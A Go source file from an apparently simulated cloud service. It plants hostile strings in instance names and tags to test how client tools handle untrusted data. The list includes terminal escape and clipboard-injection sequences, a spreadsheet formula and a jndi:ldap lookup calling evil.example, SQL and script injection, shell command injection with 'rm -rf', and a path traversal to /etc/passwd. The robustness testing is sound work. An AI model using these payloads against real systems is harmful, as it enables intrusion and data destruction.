package world

import (
	"strings"
	"time"

	"ecsdeck/ecsapi/ecssim/hash"
)

// hostile are texts that break programs which trust what a cloud answers.
var hostile = []string{
	"\x1b[2J\x1b[1;1Hcleared",                             // clears the screen
	"\x1b]0;owned\x07title",                               // sets the title
	"\x1b]52;c;cm0gLXJmIC8=\x07clip",                      // fills the clipboard
	"\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", // a link
	"\u009b31mC1",                                         // the one-character form of an escape
	"first\nsecond\r\nthird\tfourth\x00fifth",             // control characters
	"overwritten\rby this",
	"abc\b\b\b\x7f\x7fdel",
	"invoice\u202efdp.exe\u2066 isolate", // right to left
	"zero\u200bwidth\u2060and\ufeffmarks\u200d\u200f",
	"Z" + strings.Repeat("\u0334\u0346\u035a", 20) + "algo", // piled up accents
	"👩‍👩‍👧‍👦🏳️‍🌈🇨🇳 家族服务器",                                   // wide, joined, flags
	strings.Repeat("超长名字", 32),                              // as long as a name may be, and twice as wide
	"=HYPERLINK(\"http://evil.example\",\"ok\")",            // a formula in a spreadsheet
	"'; DROP TABLE instances; --",
	"<script>alert(1)</script>&amp;",
	"$(reboot) `reboot` ; rm -rf ~ | sh",
	"%s%n%v {{.}} ${jndi:ldap://evil.example}",
	"../../../../etc/passwd",
	"-rf --yes",
	"comma,quote\",semi;colon",
	" leading and trailing ",
	"ｆｕｌｌ　ｗｉｄｔｈ",
	"null",
	"\ufffd\ufffe\U0010ffff",
}

// Deface gives one instance in ten, at least one, a hostile name, description
// and tags; no two in a row the same.
func (r *Region) Deface(now time.Time) {
	r.Lock(now)
	defer r.Unlock()
	for n, i := range r.List {
		if n > 0 && hash.Mix(i.Hash, 'h')%10 != 0 {
			continue
		}
		text := func(k int) string { return hostile[(n+k)%len(hostile)] }
		i.Name, i.Description = text(0), text(3)
		i.Tags = []Tag{{Key: "env", Value: text(5)}, {Key: text(7), Value: text(11)}, {Key: "team", Value: ""}}
	}
}
